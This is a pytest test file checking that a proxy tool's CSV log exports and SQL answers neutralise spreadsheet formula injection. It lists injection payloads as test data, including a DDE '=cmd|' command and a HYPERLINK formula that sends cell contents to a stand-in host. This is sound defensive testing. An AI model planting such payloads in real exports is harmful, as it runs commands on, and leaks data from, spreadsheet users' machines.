"""S10: whoever opens an export in a spreadsheet runs nothing that strangers wrote into the log."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from proxy.cli import main
from proxy.dialects.archives.spreadsheet import line
from proxy.record import Record
from proxy.stores.log.rows import COLUMNS
from proxy.stores.log.sqlite import SQLiteLog
from tests.faults.plugin import Figure

pytestmark = pytest.mark.fault("S10")

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example?x="&A1,"look")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'x";=1+1;"',
    "a,=1+1",
    "a\n=1+1",
    "a;=1+1",
]
SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TEXTS = [
    name for name in COLUMNS if name in {"name", "model", "provider", "output", "error", "target", "end_user", "key"}
]


def exporters(command: click.Command = main, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Every command that can write CSV."""
    if isinstance(command, click.Group):
        context = click.Context(command)
        for name in command.list_commands(context):
            found = command.get_command(context, name)
            assert found is not None
            yield from exporters(found, (*path, name))
    for option in command.params:
        choices = option.type.choices if isinstance(option.type, click.Choice) else ()
        if "csv" in (*choices, *(name.strip("-") for name in option.opts)):
            yield path


def written(data: Path, *arguments: str) -> list[list[str]]:
    """What an exporter writes, as a spreadsheet reads it."""
    result = CliRunner().invoke(main, ["log", *arguments, "--data", str(data)])
    assert result.exit_code == 0, result.output
    read = list(csv.reader(io.StringIO(result.stdout, newline="")))
    for cell in (cell for row in read for cell in row):
        assert not cell.startswith(tuple(SIGNS)) or _number(cell), cell
    return read


def _number(cell: str) -> bool:
    try:
        return float(cell) < 0
    except ValueError:
        return False


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("data")

    async def fill() -> None:
        log = SQLiteLog(folder / "traces.db")
        for number, text in enumerate(FORMULAS):
            said: dict[str, Any] = dict.fromkeys(TEXTS, text)
            record = Record(f"{number:02}", text, tags=[text], metadata={text: text}, cost=-0.5, **said)
            assert await log.append(record)
        await log.close()

    asyncio.run(fill())
    return folder


def test_every_exporter_is_looked_at() -> None:
    assert set(exporters()) == {("log", "export"), ("log", "sql")}


def test_s10_an_export_has_no_formula(data: Path, figure: Figure) -> None:
    head, *rows = written(data, "export", "--format", "csv")
    assert head == list(COLUMNS)
    read = sorted((dict(zip(head, row, strict=True)) for row in rows), key=lambda row: row["trace_id"])
    for text, row in zip(FORMULAS, read, strict=True):
        for name in ("root_trace_id", *TEXTS):
            assert row[name] == (f"'{text}" if text[0] in SIGNS else text)
        assert row["cost"] == "-0.5"
    figure("cells that are formulas", f"0 of {len(rows) * len(head)}")


def test_s10_the_answer_to_a_question_has_no_formula(data: Path) -> None:
    head, *rows = written(data, "sql", "select output, '=' || output as \"=1+1\", -1, x'3d31' from traces", "--csv")
    assert head[:2] == ["output", "'=1+1"]
    assert sorted(row[0].removeprefix("'") for row in rows) == sorted(FORMULAS)
    assert {tuple(row[2:]) for row in rows} == {("-1", "3d31")}


@given(
    st.lists(st.text() | st.integers() | st.none() | st.booleans() | st.dictionaries(st.text(), st.text()), min_size=1)
)
def test_s10_no_text_is_a_formula_and_none_is_lost(cells: list[Any]) -> None:
    (read,) = csv.reader(io.StringIO(line(cells), newline=""))
    for value, cell in zip(cells, read, strict=True):
        if isinstance(value, str):
            assert not cell.startswith(tuple(SIGNS))
            assert cell == (f"'{value}" if value.startswith(tuple(SIGNS)) else value)
